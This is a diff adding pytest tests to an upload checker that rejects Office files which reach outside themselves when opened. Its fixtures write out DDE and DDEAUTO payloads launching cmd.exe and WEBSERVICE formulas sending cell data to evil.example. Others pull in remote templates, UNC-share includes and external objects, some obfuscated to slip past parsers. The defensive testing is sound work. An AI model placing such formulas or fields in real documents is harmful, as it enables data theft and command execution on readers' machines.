@@ -492,3 +492,259 @@ def test_refusal_messages_show_the_safe_name():
         check_evidence_file(upload("a/b/\u202e照片.jpg", b"\x7fELF" + bytes(50)))
 
     assert "文件“照片.jpg”" in str(excinfo.value)
+
+
+# ---------------------------------------------------------------------------------------------
+# Office files that reach outside themselves when opened: refused wherever Office files are taken.
+
+W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def make_formula_xlsx(formula: str, *, defined_name: bool = False) -> bytes:
+    """A real workbook written by openpyxl with ``formula`` in B2 (or as a defined name)."""
+    from openpyxl.workbook.defined_name import DefinedName
+
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.append(["台账", "人数"])
+    if defined_name:
+        sheet.append(["3 月", 12])
+        workbook.defined_names["来源"] = DefinedName("来源", attr_text=formula.lstrip("="))
+    else:
+        sheet.append(["3 月", formula])
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
+def add_parts(data: bytes, parts: dict[str, str | bytes]) -> bytes:
+    """The same zip with parts added, or replaced when the name is already there."""
+    out = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(data)) as source,
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
+    ):
+        for info in source.infolist():
+            if info.filename not in parts:
+                target.writestr(info.filename, source.read(info))
+        for name, content in parts.items():
+            target.writestr(name, content)
+    return out.getvalue()
+
+
+def external_rels(kind: str, target: str) -> str:
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId9" Type="{REL_NS}/{kind}" Target="{target}" TargetMode="External"/>'
+        "</Relationships>"
+    )
+
+
+def make_field_docx(body: str) -> bytes:
+    """A Word document whose body is ``body`` (WordprocessingML paragraphs)."""
+    return add_parts(
+        make_docx(),
+        {
+            "word/document.xml": '<?xml version="1.0" encoding="UTF-8"?>'
+            f'<w:document xmlns:w="{W_NS}"><w:body>{body}</w:body></w:document>'
+        },
+    )
+
+
+def complex_field(*instruction_runs: str) -> str:
+    """A field as Word writes it: begin, the instruction over one or more runs, separate, result, end."""
+    runs = "".join(
+        f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>' for text in instruction_runs
+    )
+    return (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        f'{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>结果</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+
+
+def with_formula_written_as(xml: str) -> bytes:
+    """A workbook whose B2 formula element is written as ``xml`` (as a crafted file may write it)."""
+    data = make_formula_xlsx("=1+1")
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert sheet.count("<f>1+1</f>") == 1
+    return add_parts(data, {"xl/worksheets/sheet1.xml": sheet.replace("<f>1+1</f>", xml)})
+
+
+CALLING_OUT = {
+    "xlsx-dde": (
+        "台账.xlsx",
+        lambda: make_formula_xlsx("=cmd|' /C calc'!A0"),
+        "单元格 B2 含有 DDE 公式（调用其他程序）",
+    ),
+    "xlsx-dde-msexcel": (
+        "台账.xlsx",
+        lambda: make_formula_xlsx("=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''"),
+        "DDE 公式",
+    ),
+    "xlsx-webservice": (
+        "台账.xlsx",
+        lambda: make_formula_xlsx('=WEBSERVICE("http://evil.example/?d="&A2)'),
+        "函数 WEBSERVICE（访问外部）",
+    ),
+    "xlsx-filterxml-webservice": (
+        "台账.xlsx",
+        lambda: make_formula_xlsx('=FILTERXML(_xlfn.WEBSERVICE("http://evil.example/x"),"//a")'),
+        "函数 WEBSERVICE",
+    ),
+    "xlsx-image": (
+        "台账.xlsx",
+        lambda: make_formula_xlsx('=_xlfn.IMAGE("https://evil.example/p.png")'),
+        "函数 IMAGE",
+    ),
+    "xlsx-defined-name": (
+        "台账.xlsx",
+        lambda: make_formula_xlsx('=WEBSERVICE("http://evil.example/")', defined_name=True),
+        "公式含有函数 WEBSERVICE",
+    ),
+    "xlsx-character-reference": (
+        "台账.xlsx",
+        lambda: with_formula_written_as("<f>cmd&#124;' /C calc'!A0</f>"),
+        "单元格 B2 含有 DDE 公式",
+    ),
+    "xlsx-cdata": (
+        "台账.xlsx",
+        lambda: with_formula_written_as('<f><![CDATA[WEBSERVICE("http://evil.example/")]]></f>'),
+        "单元格 B2 含有函数 WEBSERVICE",
+    ),
+    "xlsx-comment-inside": (
+        "台账.xlsx",
+        lambda: with_formula_written_as("<f>cmd<!-- -->|' /C calc'!A0</f>"),
+        "单元格 B2 含有 DDE 公式",
+    ),
+    "xlsx-external-workbook": (
+        "台账.xlsx",
+        lambda: add_parts(make_xlsx(), {"xl/externalLinks/externalLink1.xml": "<externalLink/>"}),
+        "引用了其他工作簿的数据（外部链接）",
+    ),
+    "xlsx-external-object": (
+        "台账.xlsx",
+        lambda: add_parts(
+            make_xlsx(),
+            {"xl/worksheets/_rels/sheet1.xml.rels": external_rels("oleObject", "file://evil/share/x.bin")},
+        ),
+        "引用了文件之外的内容（外部对象）",
+    ),
+    "xlsx-data-connection": (
+        "台账.xlsx",
+        lambda: add_parts(make_xlsx(), {"xl/connections.xml": "<connections/>"}),
+        "包含数据连接",
+    ),
+    "xlsx-excel4-macro-sheet": (
+        "台账.xlsx",
+        lambda: add_parts(make_xlsx(), {"xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"}),
+        "包含宏",
+    ),
+    "docx-ddeauto-simple": (
+        "报告.docx",
+        lambda: make_field_docx(
+            '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "/></w:p>'
+        ),
+        "含有会自动从外部取数据或运行程序的域（DDEAUTO）",
+    ),
+    "docx-dde-split-over-runs": (
+        "报告.docx",
+        lambda: make_field_docx(
+            complex_field(" DD", "EAUTO c:\\\\Windows\\\\System32\\\\cmd.exe ", '"/k calc"')
+        ),
+        "域（DDEAUTO）",
+    ),
+    "docx-includetext": (
+        "报告.docx",
+        lambda: make_field_docx(complex_field(' INCLUDETEXT "\\\\\\\\evil\\\\share\\\\a.docx" ')),
+        "域（INCLUDETEXT）",
+    ),
+    "docx-remote-template": (
+        "报告.docx",
+        lambda: add_parts(
+            make_docx(),
+            {"word/_rels/settings.xml.rels": external_rels("attachedTemplate", "http://evil.example/t.dotm")},
+        ),
+        "引用了文件之外的内容（外部模板）",
+    ),
+}
+
+
+@pytest.mark.parametrize(("name", "build", "message"), CALLING_OUT.values(), ids=CALLING_OUT.keys())
+def test_refuses_office_files_that_call_out_when_opened(name, build, message):
+    with pytest.raises(EvidenceError, match=re.escape(message)) as excinfo:
+        check_evidence_file(upload(name, build()))
+
+    assert (
+        "出于安全考虑不予接收" in str(excinfo.value)
+        or "断开链接" in str(excinfo.value)
+        or "宏" in str(excinfo.value)
+    )
+
+
+@pytest.mark.parametrize(("name", "build", "message"), CALLING_OUT.values(), ids=CALLING_OUT.keys())
+def test_a_refused_office_file_is_not_stored(settings, tmp_path, name, build, message):
+    from django.core.exceptions import ValidationError
+
+    from core.uploads import stored_upload
+
+    settings.MEDIA_ROOT = tmp_path
+    with (
+        pytest.raises(ValidationError, match=re.escape(message)),
+        stored_upload(upload(name, build()), prefix="evidence"),
+    ):
+        raise AssertionError("the block must not run for a refused file")
+
+    assert [p for p in tmp_path.rglob("*") if p.is_file()] == []
+
+
+@pytest.mark.parametrize(
+    "formula",
+    ["=SUM(B2:B3)", '=CONCATENATE("甲|乙","丙")', '=IF(A2="WEBSERVICE(",1,0)', "=MYCALL(1)", "=B2*RECALL"],
+    ids=["sum", "pipe-in-text", "name-in-text", "name-ending-in-call", "recall"],
+)
+def test_accepts_a_ledger_whose_formulas_stay_inside_it(formula):
+    assert check_evidence_file(upload("台账.xlsx", make_formula_xlsx(formula))).content_type == XLSX
+
+
+def test_accepts_a_document_with_ordinary_fields_and_web_links():
+    hyperlink_rels = (
+        '<?xml version="1.0" encoding="UTF-8"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId5" Type="{REL_NS}/hyperlink" Target="https://www.gov.cn/" TargetMode="External"/>'
+        "</Relationships>"
+    )
+    data = add_parts(
+        make_field_docx(
+            complex_field(" PAGE ")
+            + '<w:p><w:fldSimple w:instr=" DATE \\@ &quot;yyyy年M月d日&quot; "/></w:p>'
+        ),
+        {"word/_rels/document.xml.rels": hyperlink_rels},
+    )
+
+    assert check_evidence_file(upload("报告.docx", data)).content_type == DOCX
+
+
+def test_an_image_and_pdf_form_refuses_office_files_without_opening_them():
+    from core.filechecks import IMAGE_AND_PDF_TYPES
+
+    with pytest.raises(EvidenceError, match="此处只接受 JPG 图片、PNG 图片、PDF 文档"):
+        check_evidence_file(upload("台账.xlsx", make_xlsx()), allowed_types=IMAGE_AND_PDF_TYPES)
+    assert (
+        check_evidence_file(upload("照片.png", make_png()), allowed_types=IMAGE_AND_PDF_TYPES).extension
+        == ".png"
+    )
+
+
+def test_the_excel_import_refuses_a_workbook_that_calls_out_too():
+    from core.xlsx import XlsxError, read_xlsx_rows
+
+    data = add_parts(
+        make_xlsx(), {"xl/worksheets/_rels/sheet1.xml.rels": external_rels("oleObject", "file://evil/x.bin")}
+    )
+
+    with pytest.raises(XlsxError, match=re.escape("引用了文件之外的内容（外部对象）")):
+        read_xlsx_rows(data, max_rows=10, max_bytes=MAX_EVIDENCE_BYTES)
